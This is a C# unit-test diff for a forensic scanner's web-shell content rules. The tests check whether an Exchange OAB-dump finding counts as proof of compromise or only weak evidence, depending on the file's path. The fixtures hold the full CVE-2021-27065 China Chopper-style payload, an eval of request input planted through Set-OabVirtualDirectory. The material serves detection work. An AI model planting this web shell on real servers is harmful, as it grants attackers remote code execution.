@@ -94,6 +94,52 @@ public class ContentJudgeTests(ITestOutputHelper output)
         Assert.Contains("ExternalUrl", hit.Evidence);
     }
 
+    [Theory]
+    [InlineData("notes/exchange-incident-writeup.md")]
+    [InlineData("C/Users/admin/Desktop/oab-dump.txt")]
+    [InlineData("tools/payload.bin")]
+    public void Oab_dump_in_a_file_no_server_runs_is_suspicious_not_proof(string relativePath)
+    {
+        // A write-up or a staged copy quoting the CVE-2021-27065 payload: not a page type and outside every web root.
+        var dump = "Set-OabVirtualDirectory -ExternalUrl 'http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"klk123456\"],\"unsafe\");}</script>'\r\n";
+        var findings = FileRuleHarness.Run(Fixture.File(relativePath, dump)).Where(f => f.Rule.Id.StartsWith("content-", StringComparison.Ordinal)).ToList();
+        var hit = Assert.Single(findings);
+        Assert.Equal(WebShellContentRule.Unserved.Id, hit.Rule.Id);
+        Assert.Equal(Proves.Weak, hit.Rule.Implies);
+        Assert.Null(hit.Rule.WithExploitation);
+        Assert.Empty(hit.Rule.Cves);
+        Assert.Equal(Severity.Medium, hit.Severity);
+        Assert.Contains("content-oab-dump-script", hit.Details["not_served"]);
+    }
+
+    [Theory]
+    [InlineData("C/inetpub/wwwroot/aspnet_client/notes.txt")]
+    [InlineData("C/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/x.log")]
+    [InlineData("collection/a1b2.aspx")]
+    public void Oab_dump_a_server_could_run_stays_proof(string relativePath)
+    {
+        var dump = "ExternalUrl                     : http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"klk123456\"],\"unsafe\");}</script>\r\n";
+        var findings = FileRuleHarness.Run(Fixture.File(relativePath, dump));
+        var hit = Assert.Single(findings, f => f.Rule.Id.StartsWith("content-", StringComparison.Ordinal));
+        Assert.Equal(WebShellContentRule.OabDump.Id, hit.Rule.Id);
+        Assert.Equal(Proves.Compromise, hit.Rule.Implies);
+    }
+
+    [Fact]
+    public void Shell_code_in_a_non_page_outside_web_roots_is_capped_at_medium_and_weak()
+    {
+        foreach (var (name, text) in ShellFixtures.Pages)
+        {
+            var hits = FileRuleHarness.Run(Fixture.File("suspicious/" + Path.ChangeExtension(name, ".dat"), text))
+                .Where(f => f.Rule.Id.StartsWith("content-", StringComparison.Ordinal)).ToList();
+            foreach (var hit in hits)
+            {
+                Assert.True(hit.Rule.Implies <= Proves.Weak, $"{name}: {hit.Rule.Id} proves {hit.Rule.Implies}");
+                Assert.True(hit.Severity <= Severity.Medium, $"{name}: {hit.Severity}");
+            }
+        }
+    }
+
     [Fact]
     public void Pst_saved_as_aspx_carrying_a_page_is_judged_by_its_payload()
     {
